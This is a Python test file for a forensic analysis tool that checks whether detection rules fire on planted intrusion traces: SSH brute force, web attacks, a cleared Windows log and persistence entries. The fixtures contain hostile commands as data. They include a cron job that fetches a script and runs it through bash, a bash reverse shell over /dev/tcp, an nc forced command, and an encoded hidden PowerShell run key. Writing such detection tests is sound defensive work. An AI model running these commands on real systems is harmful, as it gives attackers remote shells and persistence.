"""Findings (C3, C4, C5, C6, H2) on a case built from real formats: each rule must fire on the planted
traces with exact values, and stay silent on ordinary configuration."""
from __future__ import annotations

import hashlib

import pytest
from analysis_helpers import add_json, add_text

from analysis import findings, timeline
from analysis.checks import auth_origin
from collectors.errors import UnreadableInput

MTIME = 1700000000  # 2023-11-14: RFC 3164 lines below are in 2023


def auth_log() -> str:
    lines = []
    for i in range(8):
        lines.append(f"Nov 10 02:{i:02d}:1{i % 10} web01 sshd[{900 + i}]: pam_unix(sshd:auth): authentication "
                     f"failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.50  user=root")
        lines.append(f"Nov 10 02:{i:02d}:1{i % 10} web01 sshd[{900 + i}]: Failed password for root from 203.0.113.50 "
                     f"port {40000 + i} ssh2")
    lines.append("Nov 10 02:10:00 web01 sshd[910]: message repeated 4 times: [ Failed password for root from "
                 "203.0.113.50 port 40010 ssh2]")
    lines.append("Nov 10 02:15:00 web01 sshd[950]: Accepted password for root from 203.0.113.50 port 40100 ssh2")
    for i in range(3):
        lines.append(f"Nov 10 03:00:0{i} web01 sshd[960]: Failed password for admin from 198.51.100.9 port 5{i} ssh2")
    for i in range(15):
        lines.append(f"Nov 11 04:00:{i:02d} web01 sshd[97{i % 10}]: Invalid user user{i} from 192.0.2.77 port 6{i:02d}")
    lines.append("Nov 11 05:00:00 web01 useradd[1200]: new user: name=backup2, UID=0, GID=0, home=/root, shell=/bin/bash")
    lines.append("Nov 11 05:00:05 web01 usermod[1201]: add 'deploy' to group 'sudo'")
    lines.append("Nov 12 08:00:00 web01 sshd[1300]: Accepted publickey for deploy from 10.0.0.5 port 50000 ssh2")
    lines.append("Nov 12 09:30:00 web01 sshd[1300]: pam_unix(sshd:session): session closed for user deploy")
    return "\n".join(lines) + "\n"


ACCESS = (
    '203.0.113.50 - - [10/Nov/2023:01:00:00 +0700] "GET /index.php?id=1%20union%20select%201,2 HTTP/1.1" 200 512 "-" "sqlmap/1.7"\n'
    '203.0.113.50 - - [10/Nov/2023:01:00:05 +0700] "GET /../../etc/passwd HTTP/1.1" 404 0 "-" "curl/8"\n'
    '10.0.0.9 - - [10/Nov/2023:01:10:00 +0700] "GET /index.php?page=2 HTTP/1.1" 200 4096 "-" "Mozilla/5.0"\n'
)


@pytest.fixture
def case(new_case, tmp_path, logs, evtx_dir):
    c = new_case()
    add_json(c, "system.json", {"hostname": "web01", "utc_offset": "+07:00"}, "B2")
    add_text(c, tmp_path, "/var/log/auth.log", auth_log(), mtime=MTIME)
    add_text(c, tmp_path, "/var/log/nginx/access.log", ACCESS)
    add_text(c, tmp_path, "/var/log/dpkg.log", (logs / "plaso-test-data/dpkg.log").read_text()
             + "\n2023-11-09 10:00:00 upgrade openssh-server:amd64 1:8.9p1-3 1:8.9p1-3ubuntu0.4\n")
    add_text(c, tmp_path, "/etc/crontab", "SHELL=/bin/sh\n# m h dom mon dow user command\n"
             "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
             "* * * * * root curl -s http://203.0.113.50/u.sh | bash\n", checklist_id="B4")
    add_text(c, tmp_path, "/var/spool/cron/crontabs/www-data", "0 3 * * * /usr/bin/php /var/www/cron.php\n",
             checklist_id="B4")
    add_text(c, tmp_path, "/etc/systemd/system/dbus-helper.service",
             "[Unit]\nDescription=helper\n[Service]\nExecStart=/dev/shm/.x/kworker -c 203.0.113.50\n"
             "[Install]\nWantedBy=multi-user.target\n", checklist_id="B4")
    add_text(c, tmp_path, "/etc/systemd/system/myapp.service", "[Service]\nExecStart=/opt/myapp/bin/myapp\n",
             checklist_id="B4")
    add_text(c, tmp_path, "/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libprocesshider.so\n", checklist_id="B4")
    add_text(c, tmp_path, "/etc/rc.local", "#!/bin/sh -e\nexit 0\n", checklist_id="B4")
    add_text(c, tmp_path, "/root/.ssh/authorized_keys",
             "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl admin@laptop\n"
             "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 attacker@kali\n", checklist_id="B4")
    add_text(c, tmp_path, "/home/deploy/.bashrc", "alias ll='ls -l'\n", checklist_id="B4")
    add_json(c, "users.json", [{"name": "root", "uid": 0, "gid": 0, "home": "/root", "shell": "/bin/bash"},
                               {"name": "toor", "uid": 0, "gid": 0, "home": "/root", "shell": "/bin/bash"},
                               {"name": "deploy", "uid": 1000, "gid": 1000, "home": "/home/deploy",
                                "shell": "/bin/bash"}], "B4")
    add_json(c, "processes.json", [
        {"pid": 1, "ppid": 0, "name": "systemd", "user": "root", "create_time": 1699500000.0, "cmdline": ["/sbin/init"],
         "exe": "/usr/lib/systemd/systemd", "exe_sha256": "a" * 64, "exe_deleted": False},
        {"pid": 4242, "ppid": 1, "name": "kworker", "user": "root", "create_time": 1699590000.5,
         "cmdline": ["/dev/shm/.x/kworker", "-c", "203.0.113.50"], "exe": "/dev/shm/.x/kworker",
         "exe_sha256": "b" * 64, "exe_deleted": False},
        {"pid": 4300, "ppid": 1, "name": "sshd", "user": "root", "create_time": 1699590100.0, "cmdline": ["sshd"],
         "exe": "/usr/sbin/sshd (deleted)", "exe_sha256": None, "exe_deleted": True},
    ], "B8")
    add_json(c, "listening_ports.json", [
        {"proto": "tcp", "laddr": "0.0.0.0", "lport": 22, "pid": 800, "process": "sshd", "exe": "/usr/sbin/sshd"},
        {"proto": "tcp", "laddr": "0.0.0.0", "lport": 4444, "pid": 4242, "process": "kworker",
         "exe": "/dev/shm/.x/kworker"}], "B11")
    add_json(c, "connections.json", [
        {"proto": "tcp", "laddr": "10.0.0.2", "lport": 51514, "raddr": "203.0.113.50", "rport": 443,
         "status": "ESTABLISHED", "pid": 4242, "process": "kworker"}], "B7")
    c.add_file(evtx_dir / "attack-samples/Defense_Evasion/DE_1102_security_log_cleared.evtx", checklist_id="B10",
               collector="test", source="C:\\Windows\\System32\\winevt\\Logs\\Security.evtx")
    return c


def by_rule(found, rule):
    return [f for f in found if f.rule == rule]


def test_origin_failed_then_success_and_brute_force(case):
    found = findings.run(case)
    [origin] = by_rule(found, "C6-failed-then-success")
    assert origin.severity == "critical"  # 12 failures >= 10
    d = origin.details
    assert (d["ip"], d["failed"], d["succeeded"], d["success_account"]) == ("203.0.113.50", 12, 1, "root")
    assert d["success_after_failures_at"] == "2023-11-09T19:15:00.000000Z"  # 02:15 at +07:00
    assert d["first_seen"] == "2023-11-09T19:00:10.000000Z"
    assert "203.0.113.50" in origin.summary_vi and "đăng nhập thành công" in origin.summary_vi
    assert len(origin.events) == 10 and origin.checklist_id == "C6"  # 9 failure lines + the success
    [brute] = by_rule(found, "C6-brute-force")
    assert brute.details["ip"] == "192.0.2.77" and brute.details["failed"] == 15 and brute.severity == "medium"
    assert len(brute.details["accounts_failed"]) == 15
    assert not [f for f in found if f.details.get("ip") == "198.51.100.9"]  # 3 failures: below the bar


def test_origin_counts_ipv4_mapped_and_differently_written_addresses_as_one(new_case, tmp_path):
    """A dual-stack daemon writes an IPv4 client as ::ffff:a.b.c.d (Windows 4624/4625 do too): those are
    remote addresses, not local ones; the same IPv6 address written two ways is one origin."""
    c = new_case("mapped")
    lines = [f"Nov 10 02:00:{i:02d} web01 sshd[9{i}]: Failed password for root from ::ffff:203.0.113.9 port 4{i:03d} ssh2"
             for i in range(6)]
    lines.append("Nov 10 02:01:00 web01 sshd[99]: Accepted password for root from 203.0.113.9 port 5000 ssh2")
    lines += [f"Nov 10 03:00:{i:02d} web01 sshd[8{i}]: Failed password for admin from 2001:0db8:0000:0000:0000:0000:0000:0001 "
              f"port 6{i:03d} ssh2" for i in range(10)]
    lines.append("Nov 10 03:01:00 web01 sshd[7]: Failed password for admin from 2001:db8::1 port 7000 ssh2")
    lines.append("Nov 10 03:02:00 web01 sshd[8]: Failed password for root from ::ffff:127.0.0.1 port 7001 ssh2")
    add_text(c, tmp_path, "/var/log/auth.log", "\n".join(lines) + "\n", mtime=MTIME)
    found = findings.run(c)
    [origin] = by_rule(found, "C6-failed-then-success")
    assert (origin.details["ip"], origin.details["failed"], origin.details["succeeded"]) == ("203.0.113.9", 6, 1)
    [brute] = by_rule(found, "C6-brute-force")
    assert (brute.details["ip"], brute.details["failed"]) == ("2001:db8::1", 11)
    assert not [f for f in found if "127.0.0.1" in str(f.details.get("ip"))]
    assert auth_origin.remote_address("fe80::1%eth0") == "fe80::1" and auth_origin.remote_address("::1") is None
    assert auth_origin.remote_address("gw.example.vn") == "gw.example.vn"
    # the indicator list names the IPv4 address: the mapped spelling in the log matches it
    ioc = tmp_path / "ioc.txt"
    ioc.write_text("203.0.113.9\n2001:db8:0:0::1\n")
    hits = by_rule(findings.run(c, ioc_file=ioc), "C5-ioc-ip")
    assert sorted((f.details["value"], f.details["count"]) for f in hits) == [("2001:db8::1", 11), ("203.0.113.9", 7)]


def test_web_attacks(case):
    found = findings.run(case)
    # one finding per rule and access log, with the first request's fields
    [sqli] = by_rule(found, "C6-web-sql_injection")
    assert sqli.severity == "medium" and sqli.event_count == 1 and sqli.origin == "ungcuu"
    assert (sqli.first_match["c-uri"], sqli.first_match["sc-status"]) == ("/index.php?id=1%20union%20select%201,2", "200")
    assert sqli.tags == ["attack.initial-access", "attack.t1190"] and sqli.tactic == "initial_access"
    [trav] = by_rule(found, "C6-web-path_traversal")
    assert trav.severity == "medium" and trav.first_match["sc-status"] == "404"
    assert by_rule(found, "C6-web-scanner")[0].first_match["c-ip"] == "203.0.113.50"


def test_log_cleared_is_reported(case):
    [f] = by_rule(findings.run(case), "C6-log-cleared")
    assert f.time == "2019-03-19T23:35:07.524202Z" and f.first_match["subjectusername"] == "user01"
    assert f.events == [{"evidence_id": f.evidence_ids[0], "locator": "record 1"}] and f.event_count == 1


def test_updates_and_last_use(case):
    found = findings.run(case)
    [upd] = by_rule(found, "C3-last-package-activity")
    assert upd.time == "2023-11-09T03:00:00.000000Z"  # 10:00 at +07:00
    assert "openssh-server" in upd.summary_en
    [logon] = by_rule(found, "C4-last-logon")
    assert logon.time == "2023-11-12T01:00:00.000000Z" and "deploy" in logon.summary_vi
    [logoff] = by_rule(found, "C4-last-logoff")
    assert logoff.time == "2023-11-12T02:30:00.000000Z"
    [act] = by_rule(found, "C4-last-activity")
    assert act.time == "2023-11-12T02:30:00.000000Z"


def test_last_use_is_not_the_last_cron_job(new_case, tmp_path):
    """cron (and sudo, su) open and close PAM sessions all day: C4 must name the last logon, not them."""
    c = new_case("cronpam")
    add_text(c, tmp_path, "/var/log/auth.log",
             "Nov 12 08:00:00 web01 sshd[1300]: pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)\n"
             "Nov 12 08:30:00 web01 sshd[1300]: pam_unix(sshd:session): session closed for user deploy\n"
             "Nov 12 09:17:01 web01 CRON[2001]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)\n"
             "Nov 12 09:17:01 web01 CRON[2001]: pam_unix(cron:session): session closed for user root\n"
             "Nov 12 09:20:00 web01 sudo: pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1000)\n",
             mtime=MTIME)
    found = findings.run(c)
    [logon] = by_rule(found, "C4-last-logon")
    assert logon.time == "2023-11-12T08:00:00.000000Z" and "deploy" in logon.summary_en
    [logoff] = by_rule(found, "C4-last-logoff")
    assert logoff.time == "2023-11-12T08:30:00.000000Z"


def test_persistence_candidates(case):
    found = findings.run(case)
    cron = by_rule(found, "H2-suspicious-cron")
    assert len(cron) == 1 and cron[0].severity == "high"
    assert cron[0].details["lines"] == [{"line": 4, "text": "* * * * * root curl -s http://203.0.113.50/u.sh | bash"}]
    assert [f.details["path"] for f in by_rule(found, "H2-cron-entries")] == ["/var/spool/cron/crontabs/www-data"]
    unit = by_rule(found, "H2-suspicious-systemd-unit")
    assert [f.details["path"] for f in unit] == ["/etc/systemd/system/dbus-helper.service"]
    assert [f.details["path"] for f in by_rule(found, "H2-custom-systemd-unit")] == ["/etc/systemd/system/myapp.service"]
    assert by_rule(found, "H2-ld-so-preload")[0].severity == "high"
    assert not by_rule(found, "H2-rc-local")  # only "exit 0"
    keys = by_rule(found, "H2-authorized-keys")[0]
    assert keys.severity == "medium" and keys.details["comments"] == ["admin@laptop", "attacker@kali"]
    assert not by_rule(found, "H2-suspicious-shell-profile")
    [uid0] = by_rule(found, "H2-extra-uid0")
    assert uid0.severity == "critical" and uid0.details["account"]["name"] == "toor"
    [new] = by_rule(found, "H2-new-account-uid0-linux")
    assert (new.first_match["user"], new.first_match["uid"]) == ("backup2", "0") and new.severity == "critical"
    assert not by_rule(found, "H2-new-account-linux")  # the UID 0 rule says it, not both
    [grp] = by_rule(found, "H2-admin-group")
    assert grp.first_match["user"] == "deploy" and grp.first_match["group"] == "sudo"
    procs = by_rule(found, "H2-process-location")
    assert sorted(f.details["pid"] for f in procs) == [4242, 4300]
    [lst] = by_rule(found, "H2-listener-location")
    assert lst.details["lport"] == 4444
    # most severe first
    ranks = [findings.SEV_RANK[f.severity] for f in found]
    assert ranks == sorted(ranks, reverse=True)


def test_sudoers_and_forced_key_options(new_case, tmp_path):
    c = new_case("sudoers")
    add_text(c, tmp_path, "/etc/sudoers", "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n",
             checklist_id="B4")
    add_text(c, tmp_path, "/etc/sudoers.d/zz", "%sudo ALL=(ALL:ALL) NOPASSWD: ALL\n", checklist_id="B4")
    add_text(c, tmp_path, "/home/deploy/.ssh/authorized_keys",
             'no-pty,command="/bin/sh -c \'nc 203.0.113.9 4444\'" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI x@y\n',
             checklist_id="B4")
    found = findings.run(c)
    [sudo] = by_rule(found, "H2-sudoers-nopasswd")
    assert sudo.details["path"] == "/etc/sudoers.d/zz"  # the stock file (no NOPASSWD) is not flagged
    [keys] = by_rule(found, "H2-authorized-keys")
    assert keys.severity == "medium"  # a forced command after another option


def test_indicators_hashes_addresses_domains_and_yara(case, tmp_path):
    cron = case.latest("src_etc_crontab")
    cron_sha = cron.sha256
    cron_md5 = hashlib.md5(case.evidence_path(cron).read_bytes()).hexdigest()
    ioc = tmp_path / "ioc.txt"
    ioc.write_text(f"# từ VNCERT\n{cron_sha}\n{cron_md5.upper()}\n203.0.113.50\nbbbb{'b' * 60}\n"
                   "evil[.]example\nnot an indicator\n")
    ind = __import__("analysis.ioc", fromlist=["x"]).load(ioc)
    assert (len(ind.sha256), len(ind.md5), ind.ips, ind.domains) == (2, 1, {"203.0.113.50"}, {"evil.example"})
    assert ind.rejected == [(7, "not an indicator")]
    rules = tmp_path / "rules.yar"
    rules.write_text('rule ProcessHider { strings: $a = "libprocesshider" condition: $a }\n'
                     'rule NoMatch { strings: $a = "zzz-not-there-zzz" condition: $a }\n')
    found = findings.run(case, ioc_file=ioc, yara_file=rules)
    file_hits = by_rule(found, "C5-ioc-file-hash")
    assert sorted(f.details["algorithm"] for f in file_hits) == ["md5", "sha256"]
    assert {f.details["path"] for f in file_hits} == {"/etc/crontab"}
    [exe] = by_rule(found, "C5-ioc-exe-hash")
    assert exe.details["pid"] == 4242
    [conn] = by_rule(found, "C5-ioc-connection")
    assert conn.details["rport"] == 443
    [ip] = by_rule(found, "C5-ioc-ip")
    assert ip.details["count"] == 20  # 8 pam + 9 sshd failure lines + 1 success + 2 web requests
    [yara_hit] = by_rule(found, "C5-yara")
    assert yara_hit.details["path"] == "/etc/ld.so.preload" and yara_hit.details["rule"] == "ProcessHider"
    bad = tmp_path / "bad.yar"
    bad.write_text("rule {")
    with pytest.raises(UnreadableInput, match="do not compile"):
        findings.run(case, yara_file=bad)
    with pytest.raises(UnreadableInput, match="cannot read the indicator file"):
        findings.run(case, ioc_file=tmp_path / "missing.txt")


def test_windows_sources(new_case, evtx_dir):
    c = new_case("win")
    c.add_file(evtx_dir / "evtx-rs-samples/2-vss_7-System.evtx", checklist_id="B10", collector="test",
               source="C:\\Windows\\System32\\winevt\\Logs\\System.evtx")
    c.add_file(evtx_dir / "evtx-rs-samples/new-user-security.evtx", checklist_id="B10", collector="test",
               source="C:\\Windows\\System32\\winevt\\Logs\\Security.evtx")
    add_json(c, "windows_run_keys.json", [
        {"hive": "HKCU", "key": "Software\\Microsoft\\Windows\\CurrentVersion\\Run", "name": "OneDrive",
         "value": "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background"},
        {"hive": "HKCU", "key": "Software\\Microsoft\\Windows\\CurrentVersion\\Run", "name": "updater",
         "value": "powershell.exe -w hidden -enc SQBFAFgA"}], "B4")
    add_json(c, "windows_scheduled_tasks.json", [
        {"path": "\\GoogleUpdate", "hidden": False, "actions": [{"type": "exec", "command": "C:\\Program Files\\Google\\Update\\GoogleUpdate.exe"}]},
        {"path": "\\Sync", "hidden": True, "actions": [{"type": "exec", "command": "C:\\Users\\bob\\AppData\\Roaming\\s.exe"}]}], "B4")
    found = findings.run(c)
    [upd] = by_rule(found, "C3-last-windows-update")
    assert upd.time.startswith("2018-08-0")
    [svc] = by_rule(found, "H2-windows-service-installed")
    assert svc.event_count == 19 and len(svc.events) == 19
    run_keys = {f.details["name"]: f.severity for f in by_rule(found, "H2-run-key")}
    assert run_keys == {"OneDrive": "low", "updater": "high"}
    [task] = by_rule(found, "H2-scheduled-task")
    assert task.details["path"] == "\\Sync" and task.severity == "high"
    admin = by_rule(found, "H2-windows-admin-group")
    assert len(admin) == 1 and admin[0].first_match["targetusername"] == "Administrators"
    assert by_rule(found, "H2-new-account")[0].first_match["targetusername"] == "IEUser"


def test_findings_need_no_live_system_and_rebuild_timeline(case):
    assert not timeline.path_of(case).exists()
    findings.run(case)
    assert timeline.is_current(case)


def test_long_scripts_need_strong_signs(new_case, tmp_path):
    c = new_case("scripts")
    add_text(c, tmp_path, "/etc/init.d/x11-common",
             '#!/bin/sh\nset_up_dir () {\n  DIR="/tmp/$1"\n  fn="$(mktemp /tmp/testwriteable.XXXXXXXXXX)" || return 1\n}\n',
             checklist_id="B4")
    add_text(c, tmp_path, "/etc/profile.d/z-update.sh",
             "# keep session alive\n(bash -i >& /dev/tcp/203.0.113.9/443 0>&1 &) 2>/dev/null\n", checklist_id="B4")
    add_text(c, tmp_path, "/etc/cron.d/cleanup", "*/5 * * * * root /tmp/.cache/upd >/dev/null 2>&1\n",
             checklist_id="B4")
    found = findings.run(c)
    assert not by_rule(found, "H2-suspicious-init-script")
    [prof] = by_rule(found, "H2-suspicious-shell-profile")
    assert prof.details["lines"] == [{"line": 2, "text": "(bash -i >& /dev/tcp/203.0.113.9/443 0>&1 &) 2>/dev/null"}]
    [cron] = by_rule(found, "H2-suspicious-cron")
    assert cron.details["path"] == "/etc/cron.d/cleanup" and cron.severity == "high"
